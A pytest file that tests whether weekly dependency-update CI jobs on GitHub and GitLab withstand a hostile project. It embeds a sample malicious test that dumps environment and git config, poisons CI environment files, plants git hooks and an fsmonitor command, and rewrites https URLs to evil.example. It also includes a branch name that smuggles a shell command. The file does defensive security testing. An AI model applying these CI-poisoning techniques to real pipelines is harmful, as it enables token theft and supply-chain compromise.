"""The weekly jobs: what writes to a repository runs nothing of it, and pushes nothing but the update.

The shell of each job runs here as it stands in the workflow, in a place of its own. What a forge does itself,
checking out and handing over files, is done by the test.
"""

import json
import os
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import effort
import pytest
import yaml
from rendering import TEMPLATE, commit, git
from updating import BRANCH, ME, PROVIDER, committed, instead, release

pytestmark = [effort.push, effort.early]

TOKEN = "a-token-that-writes"
ADDRESSES = {
    "github": "https://github.example/owner/my-server",
    "gitlab": "https://gitlab.example:443/owner/my-server.git",
}


@dataclass
class Forge:
    """A repository that takes what is pushed to it, and what its jobs were given and asked for."""

    name: str
    bare: Path
    here: Path
    verdict: str = "success"
    codes: dict[str, int] = field(default_factory=dict)

    def refs(self) -> set[str]:
        return set(git(self.bare, "for-each-ref", "--format=%(refname)").split())

    def head(self) -> str:
        return git(self.bare, "rev-parse", "main").strip()

    def place(self, job: str, *, checked_out: bool) -> Path:
        """Return a new folder for a job, with what a forge puts there."""
        place = self.here / job
        if checked_out:
            git(self.here, "clone", "--quiet", "--depth", "1", f"file://{self.bare}", str(place))
        else:
            place.mkdir()
        (self.here / f"{job}.temp").mkdir()
        return place

    def shell(self, job: str, place: Path, script: str, **more: str) -> int:
        """Run the shell of a job; return how it ends."""
        temp = self.here / f"{job}.temp"
        commands = self.here / "commands"
        commands.mkdir(exist_ok=True)
        asked = f'#!/bin/sh\nfor word in "$@"; do echo "$word"; done >> {self.here}/asked\n'
        (commands / "gh").write_text(asked)
        (commands / "pip").write_text("#!/bin/sh\n")
        for command in commands.iterdir():
            command.chmod(0o755)
        inherited = {name: value for name, value in os.environ.items() if not name.startswith("PYTEST_")}
        done = subprocess.run(
            ["bash", "-e", "-o", "pipefail", "-c", script],
            cwd=place,
            env=inherited
            | dict.fromkeys(ME, "authserver-update")
            | instead(ADDRESSES[self.name], use=self.bare)
            | {
                "PATH": f"{commands}:{os.environ['PATH']}",
                "PYTEST_ADDOPTS": "tests/app -n0",
                "RUNNER_TEMP": str(temp),
                "GITHUB_OUTPUT": str(temp / "output"),
                "GITHUB_ENV": str(temp / "env"),
                "GITHUB_PATH": str(temp / "path"),
                "GITHUB_SERVER_URL": "https://github.example",
                "GITHUB_REPOSITORY": "owner/my-server",
                "GITHUB_REF_NAME": "main",
                "GITHUB_SHA": self.head(),
                "CI_SERVER_PROTOCOL": "https",
                "CI_SERVER_HOST": "gitlab.example",
                "CI_SERVER_PORT": "443",
                "CI_PROJECT_PATH": "owner/my-server",
                "CI_COMMIT_BRANCH": "main",
                "CI_COMMIT_SHA": self.head(),
            }
            | more,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            check=False,
        )
        (self.here / f"{job}.log").write_text(done.stdout)
        return done.returncode

    def log(self, job: str) -> str:
        return (self.here / f"{job}.log").read_text()

    # ----------------------------------------------------------------------------------------- both kinds

    def run(self) -> None:
        """Run all three jobs, each in its own place."""
        (self._github if self.name == "github" else self._gitlab)()

    def open(self, bundle: Path, **more: str) -> int:
        """Run the job that pushes, with a bundle."""
        if self.name == "github":
            place = self.place("open", checked_out=False)
            shutil.copy(bundle, self.here / "open.temp" / "update.bundle")
            draft = "" if self.verdict == "success" else "--draft"
            script = _steps("open")[-1]["run"]
            return self.shell("open", place, script, GH_TOKEN=TOKEN, DRAFT=draft, **more)
        place = self.place("open", checked_out=False)
        (place / "update").mkdir()
        (place / "verdict").mkdir()
        shutil.copy(bundle, place / "update" / "update.bundle")
        if self.verdict == "success":
            (place / "verdict" / "tests").write_text("passed\n")
        job = _gitlab()["authserver-update-open"]
        return self.shell("open", place, "\n".join(job["script"]), AUTHSERVER_UPDATE_TOKEN=TOKEN, **more)

    def _github(self) -> None:
        made = self.place("make", checked_out=True)
        [*_, update, _upload] = _steps("make")
        self.codes["make"] = self.shell("make", made, update["run"])
        bundle = self.here / "make.temp" / "update.bundle"
        if not bundle.exists():
            return
        assert "made=yes" in (self.here / "make.temp" / "output").read_text()
        test = self.place("test", checked_out=True)
        shutil.copy(bundle, self.here / "test.temp")
        self.codes["test"] = self.shell("test", test, _steps("test")[-1]["run"])
        self.verdict = "success" if self.codes["test"] == 0 else "failure"
        self.codes["open"] = self.open(bundle)

    def _gitlab(self) -> None:
        jobs = _gitlab()
        made = self.place("make", checked_out=True)
        self.codes["make"] = self.shell("make", made, "\n".join(jobs["authserver-update"]["script"]))
        bundle = made / "update" / "update.bundle"
        if not bundle.exists():
            return
        test = self.place("test", checked_out=True)
        (test / "update").mkdir()
        shutil.copy(bundle, test / "update")
        script = "\n".join(jobs["authserver-update-test"]["script"])
        self.codes["test"] = self.shell("test", test, script)
        self.verdict = "success" if (test / "verdict" / "tests").exists() else "failure"
        self.codes["open"] = self.open(bundle)


def _workflow() -> Any:
    return yaml.safe_load((TEMPLATE / ".github/workflows/authserver-update.yml").read_text())


def _steps(job: str) -> list[dict[str, Any]]:
    steps: list[dict[str, Any]] = _workflow()["jobs"][job]["steps"]
    return steps


def _gitlab() -> Any:
    return yaml.safe_load((TEMPLATE / ".gitlab/authserver.yml").read_text())


def new_forge(name: str, tmp_path: Path, project: Path) -> Forge:
    here = tmp_path / "forge"
    here.mkdir()
    bare = here / "repository.git"
    git(here, "clone", "--quiet", "--bare", str(project), str(bare))
    git(bare, "config", "receive.advertisePushOptions", "true")
    hook = bare / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\nenv | grep ^GIT_PUSH_OPTION_ | sort > options\n")
    hook.chmod(0o755)
    return Forge(name, bare, here)


HOSTILE = '''"""A test that wants more than to test."""

import os
import subprocess
from pathlib import Path


def test_it() -> None:
    seen = Path("SEEN")
    git = subprocess.run(["git", "config", "--list"], capture_output=True, text=True).stdout
    seen.write_text(repr(dict(os.environ)) + git)
    for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT"):
        with open(os.environ[name], "a") as file:
            file.write("GIT_CONFIG_GLOBAL=/tmp/evil\\n")
    hooks = Path(".git/hooks")
    hooks.mkdir(exist_ok=True)
    for name in ("pre-push", "post-checkout", "reference-transaction"):
        (hooks / name).write_text("#!/bin/sh\\nenv >> SEEN\\n")
        (hooks / name).chmod(0o755)
    for words in (
        ("config", "core.fsmonitor", "env >> SEEN; false"),
        ("config", "url.https://evil.example/.insteadOf", "https://"),
        ("commit", "--quiet", "--allow-empty", "--no-verify", "-m", "evil"),
        ("branch", "--force", "evil"),
        ("bundle", "create", os.environ["RUNNER_TEMP"] + "/update.bundle", "--all"),
    ):
        subprocess.run(["git", *words], check=False)
    Path("update").mkdir(exist_ok=True)
    subprocess.run(["git", "bundle", "create", "update/update.bundle", "--all"], check=False)
    assert FINE
'''


@pytest.mark.parametrize(
    ("project", "fine"),
    [
        ({"ci": "github"}, True),
        pytest.param({"ci": "gitlab"}, False, marks=effort.release),
        pytest.param({"ci": "github"}, False, marks=effort.release),
        pytest.param({"ci": "gitlab"}, True, marks=effort.release),
    ],
    indirect=["project"],
    ids=["github", "gitlab, tests fail", "github, tests fail", "gitlab"],
)
def test_a_hostile_project_gets_no_token_and_nothing_else_pushed(
    project: Path, source: Path, tmp_path: Path, fine: bool
) -> None:
    """Attack 40: a test that takes what the weekly job may do. Source: CICD-SEC-4, CICD-SEC-5, CICD-SEC-6."""
    seen = tmp_path / "seen"
    test = HOSTILE.replace("SEEN", str(seen)).replace("FINE", str(fine))
    (project / "tests/app/test_hostile.py").write_text(test)
    commit(project, "Hostile")
    release(source, "999.1.0", (PROVIDER, "# a fix\n"))
    forge = new_forge("gitlab" if (project / ".gitlab").exists() else "github", tmp_path, project)
    before = forge.refs()
    forge.run()
    assert forge.codes == {"make": 0, "test": int(not fine), "open": 0}, [
        forge.log(name) for name in forge.codes
    ]
    assert TOKEN not in seen.read_text()
    assert forge.refs() == before | {f"refs/heads/{BRANCH}"}
    assert git(forge.bare, "rev-parse", f"{BRANCH}^@").strip() == forge.head()
    changed = git(forge.bare, "diff", "--name-only", "main", BRANCH).split()
    assert PROVIDER in changed
    assert not {"tests/app/test_hostile.py", ".github/workflows/evil.yml"} & set(changed)
    if forge.name == "github":
        asked = (forge.here / "asked").read_text().splitlines()
        assert asked[:2] == ["pr", "create"]
        assert asked[asked.index("--head") + 1] == BRANCH
        assert asked[asked.index("--title") + 1] == "Update authserver to 999.1.0"
        assert ("--draft" in asked) == (not fine)
    else:
        options = (forge.bare / "options").read_text()
        draft = "" if fine else "Draft: "
        assert "=merge_request.target=main\n" in options
        assert f"=merge_request.title={draft}Update authserver to 999.1.0\n" in options
        assert "=merge_request.description=## 999.1.0<br><br>* What 999.1.0 brings.<br>" in options


@pytest.fixture
def small(tmp_path: Path) -> Path:
    """A repository with a little history."""
    project = tmp_path / "small"
    project.mkdir()
    git(project, "init", "--quiet", "--initial-branch", "main")
    (project / "file").write_text("1")
    commit(project, "Start")
    return project


def one_commit(project: Path) -> list[str]:
    git(project, "checkout", "--quiet", "-b", BRANCH)
    commit(project, "Update authserver to 999.1.0")
    return [BRANCH, "^main"]


def with_another_ref(project: Path) -> list[str]:
    words = one_commit(project)
    git(project, "branch", "evil")
    return [*words, "evil"]


def with_main(project: Path) -> list[str]:
    one_commit(project)
    git(project, "branch", "--force", "main", BRANCH)
    return ["main", "^main^"]


def with_a_tag(project: Path) -> list[str]:
    one_commit(project)
    git(project, "tag", BRANCH)
    return [f"refs/tags/{BRANCH}", "^main"]


def with_two_commits(project: Path) -> list[str]:
    words = one_commit(project)
    commit(project, "More")
    return words


def without_a_base(project: Path) -> list[str]:
    git(project, "checkout", "--quiet", "--orphan", BRANCH)
    commit(project, "Update authserver to 999.1.0")
    return [BRANCH]


def with_an_odd_name(project: Path) -> list[str]:
    name = "authserver-update-$(touch${IFS}evil)"
    git(project, "checkout", "--quiet", "-b", name)
    commit(project, "Update authserver to 999.1.0")
    return [f"refs/heads/{name}", "^main"]


BAD = [with_another_ref, with_main, with_a_tag, with_two_commits, without_a_base, with_an_odd_name]


@pytest.mark.parametrize("forge_name", ADDRESSES)
@pytest.mark.parametrize("make", [one_commit, *BAD])
def test_only_one_commit_on_one_branch_is_pushed(
    small: Path, tmp_path: Path, make: Callable[[Path], list[str]], forge_name: str
) -> None:
    """Attack 40: hand over more than an update. Source: CICD-SEC-9."""
    forge = new_forge(forge_name, tmp_path, small)
    bundle = tmp_path / "update.bundle"
    git(small, "bundle", "create", "--quiet", str(bundle), *make(small))
    before = git(forge.bare, "for-each-ref")
    code = forge.open(bundle)
    if make is one_commit:
        assert code == 0, forge.log("open")
        assert forge.refs() == {"refs/heads/main", f"refs/heads/{BRANCH}"}
        for path in (forge.here / "open.log", forge.here / "asked"):
            assert not path.exists() or TOKEN not in path.read_text()
    else:
        assert code != 0
        assert git(forge.bare, "for-each-ref") == before
        assert not [path for path in (forge.here / "open").rglob("*") if path.name == "evil"]


@pytest.mark.parametrize("forge_name", ADDRESSES)
def test_a_branch_that_is_there_stays_as_it_is(small: Path, tmp_path: Path, forge_name: str) -> None:
    bundle = tmp_path / "update.bundle"
    git(small, "bundle", "create", "--quiet", str(bundle), *one_commit(small))
    commit(small, "Worked on")
    forge = new_forge(forge_name, tmp_path, small)
    before = git(forge.bare, "for-each-ref")
    assert forge.open(bundle) == 0
    assert git(forge.bare, "for-each-ref") == before
    assert not (forge.here / "asked").exists()


def test_a_job_of_gitlab_that_can_read_the_token_stops(small: Path, tmp_path: Path) -> None:
    """Attack 40: a variable that all jobs get. Source: CICD-SEC-6."""
    forge = new_forge("gitlab", tmp_path, small)
    place = forge.place("make", checked_out=True)
    script = "\n".join(_gitlab()["authserver-update"]["script"])
    assert forge.shell("make", place, script, AUTHSERVER_UPDATE_TOKEN=TOKEN) == 1
    assert "environment scope authserver-update" in forge.log("make")


def test_only_the_job_that_runs_nothing_may_write() -> None:
    """Attack 40: as it stands in the workflows. Source: CICD-SEC-5."""
    workflow = _workflow()
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    for name in ("make", "test", "known-flaws"):
        assert jobs[name]["permissions"] == {"contents": "read"}
        assert not re.search(r"secrets\.|github\.token", yaml.safe_dump(jobs[name]))
    opening = yaml.safe_dump(jobs["open"])
    assert not re.search(r"checkout@|uv |sh src/", opening)
    assert [list(step.get("env", {})) for step in jobs["open"]["steps"]] == [[], ["GH_TOKEN", "DRAFT"]]
    gitlab = _gitlab()
    assert [name for name, job in gitlab.items() if "environment" in job] == ["authserver-update-open"]
    assert "uv " not in yaml.safe_dump(gitlab["authserver-update-open"])


@effort.release
@pytest.mark.parametrize("forge_name", ADDRESSES)
@pytest.mark.parametrize("version", ["0", "999999"])
def test_the_weekly_job_says_which_libraries_have_known_flaws(
    default_project: Path, tmp_path: Path, forge_name: str, version: str
) -> None:
    project = committed(shutil.copytree(default_project, tmp_path / "my-server"))
    forge = new_forge(forge_name, tmp_path, project)
    place = forge.place("flaws", checked_out=True)
    affected = {
        "package": {"ecosystem": "PyPI", "name": "Uvicorn"},
        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": version}]}],
    }
    record = {"id": "PYSEC-1", "modified": datetime.now(UTC).isoformat(), "affected": [affected]}
    with zipfile.ZipFile(tmp_path / "all.zip", "w") as file:
        file.writestr("PYSEC-1.json", json.dumps(record))
    commands = forge.here / "commands"
    commands.mkdir()
    took = 'while test "$1" != --output; do shift; done'
    (commands / "curl").write_text(f'#!/bin/sh\n{took}\ncp {tmp_path}/all.zip "$2"\n')
    script = (
        _steps("known-flaws")[-1]["run"]
        if forge_name == "github"
        else "\n".join(_gitlab()["authserver-known-flaws"]["script"])
    )
    has_one = version == "0"
    assert forge.shell("flaws", place, script) == int(has_one), forge.log("flaws")
    assert ("vulnerable: uvicorn " in forge.log("flaws")) == has_one
    assert f"libraries, {'1' if has_one else 'nothing'} unsafe" in forge.log("flaws")
